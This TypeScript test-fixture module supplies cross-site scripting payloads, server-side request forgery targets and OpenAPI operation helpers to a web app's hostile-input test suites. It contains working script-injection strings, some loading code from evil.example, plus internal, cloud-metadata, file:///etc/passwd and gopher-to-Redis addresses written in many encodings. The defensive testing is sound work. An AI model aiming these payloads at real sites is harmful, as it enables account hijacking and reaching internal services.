/**
 * What the hostile-input suites (server/hostile/*.test.ts) throw at the site: cross-site scripting
 * payloads, server-side request forgery targets, and every operation of the OpenAPI document.
 */
import type { TestApp } from './test-app.ts';
import { openApiDocument } from '../../server/app.ts';

/** Short enough for a 40-character title; each tries a different way into a page. */
export const XSS_PAYLOADS = [
  '<script>alert(1)</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script src=//evil.example/x.js></script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://i.example/a.png" onerror="alert(1)">',
  '<img src=javascript:alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><script>alert(1)</script>',
  '<iframe src=javascript:alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data=javascript:alert(1)>',
  '<embed src=javascript:alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '![x](javascript:alert(1))',
  '<details open ontoggle=alert(1)>',
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<form action=javascript:alert(1)><button>x',
  '<button formaction=javascript:alert(1)>x',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<div style="x:expression(alert(1))">x</div>',
  '<style>*{background:red}</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href=//evil.example/>',
  '<table background=javascript:alert(1)>',
  '<video><source onerror=alert(1)>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<h2 id="login-form">x</h2>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '</textarea><script>alert(1)</script>',
  '{{constructor.constructor("alert(1)")()}}',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<xmp><script>alert(1)</script></xmp>',
  '<a href="/link?target=javascript:alert(1)">x</a>',
  '\u202e<script>alert(1)</script>',
] as const;

/**
 * Targets the share form's page reader must never reach: loopback, private, link-local, metadata,
 * CGNAT, multicast and reserved addresses in every spelling, IPv6 forms that embed them, and
 * schemes other than http(s). `port` is a local server that counts the requests that reach it.
 */
export function ssrfTargets(port: number): string[] {
  const hosts = [
    '127.0.0.1',
    '127.1',
    '127.0.1',
    '0177.0.0.1',
    '0x7f.0.0.1',
    '0x7f000001',
    '2130706433',
    '017700000001',
    '127.255.255.254',
    'localhost',
    'LOCALHOST',
    'localhost.',
    '0.0.0.0',
    '0',
    '10.0.0.1',
    '172.16.0.1',
    '172.31.255.255',
    '192.168.1.1',
    '100.64.0.1',
    '169.254.169.254',
    '169.254.170.2',
    '100.100.100.200',
    '224.0.0.1',
    '255.255.255.255',
    '198.18.0.1',
    '[::1]',
    '[0:0:0:0:0:0:0:1]',
    '[::]',
    '[::127.0.0.1]',
    '[::ffff:127.0.0.1]',
    '[::ffff:7f00:1]',
    '[0:0:0:0:0:ffff:127.0.0.1]',
    '[::ffff:0:127.0.0.1]',
    '[::ffff:169.254.169.254]',
    '[::ffff:10.0.0.1]',
    '[64:ff9b::127.0.0.1]',
    '[64:ff9b::a9fe:a9fe]',
    '[64:ff9b:1::a00:1]',
    '[2002:7f00:1::1]',
    '[2002:a9fe:a9fe::]',
    '[2001:0:4136:e378:8000:63bf:3fff:fdd2]',
    '[fe80::1]',
    '[fc00::1]',
    '[fd00:ec2::254]',
    '[fec0::1]',
    '[ff02::1]',
    '[2001:db8::1]',
  ];
  const urls = hosts.flatMap((host) => [`http://${host}:${port}/`, `https://${host}/`]);
  return [
    ...urls,
    `http://127.0.0.1:${port}@example.com/`,
    `http://user:pass@127.0.0.1:${port}/`,
    `file:///etc/passwd`,
    'gopher://127.0.0.1:6379/_INFO',
    'ftp://127.0.0.1/',
    'dict://127.0.0.1:11211/stat',
    'ldap://127.0.0.1/',
    'javascript:alert(1)',
    'data:text/html,<h1>x</h1>',
    `//127.0.0.1:${port}/`,
    `http:/127.0.0.1:${port}/`,
    `http:\\\\127.0.0.1:${port}\\`,
  ];
}

export interface Operation {
  method: 'get' | 'post' | 'put' | 'patch' | 'delete';
  /** The document's path, e.g. /post/entryDel or /comment/comment/{id}. */
  template: string;
  bodyType: string | null;
  /** A GET that changes state (createGetWriteRoute). */
  getWrite: boolean;
}

type OperationsDocument = {
  paths: Record<
    string,
    Record<string, { requestBody?: { content: Record<string, unknown> }; 'x-get-write'?: boolean }>
  >;
};

/** Every operation of /api/openapi.json. */
export async function apiOperations(app: TestApp): Promise<Operation[]> {
  return operationsOf((await (await app.request('/api/openapi.json')).json()) as OperationsDocument);
}

/**
 * Every operation of the OpenAPI document built from the contracts, known when the test file is
 * collected, so a suite can make one test per service.
 */
export function contractOperations(): Operation[] {
  return operationsOf(openApiDocument() as unknown as OperationsDocument);
}

/** The operations by service (the first segment of the path), services in name order. */
export function byService(operations: Operation[]): Array<[service: string, operations: Operation[]]> {
  const groups = new Map<string, Operation[]>();
  for (const operation of operations) {
    const service = operation.template.split('/')[1] ?? '';
    groups.set(service, [...(groups.get(service) ?? []), operation]);
  }
  return [...groups.entries()].sort(([a], [b]) => a.localeCompare(b));
}

function operationsOf(doc: OperationsDocument): Operation[] {
  const operations: Operation[] = [];
  for (const [template, methods] of Object.entries(doc.paths)) {
    for (const [method, operation] of Object.entries(methods)) {
      operations.push({
        method: method as Operation['method'],
        template,
        bodyType: operation.requestBody ? (Object.keys(operation.requestBody.content)[0] ?? null) : null,
        getWrite: operation['x-get-write'] === true,
      });
    }
  }
  return operations;
}

/** Whether an operation changes state: every POST, PUT, PATCH and DELETE, and the marked GETs. */
export function isWrite(operation: Operation): boolean {
  return operation.method !== 'get' || operation.getWrite;
}

const PARAM_SAMPLES: Record<string, string> = {
  type: 'hot',
  suggestType: 'tag',
  targetType: 'entry',
  provider: 'github',
  page: '0',
  pageSize: '10',
  query: 'x',
  title: 'x',
};

/** The operation's URL under /api, its path parameters filled with `value` (or a plausible sample). */
export function operationUrl(operation: Operation, value?: (name: string) => string): string {
  const path = operation.template.replace(/\{(\w+)\}/g, (_, name: string) =>
    encodeURIComponent(value ? value(name) : (PARAM_SAMPLES[name] ?? '0123456789abcdef01234567')),
  );
  return `/api${path}`;
}
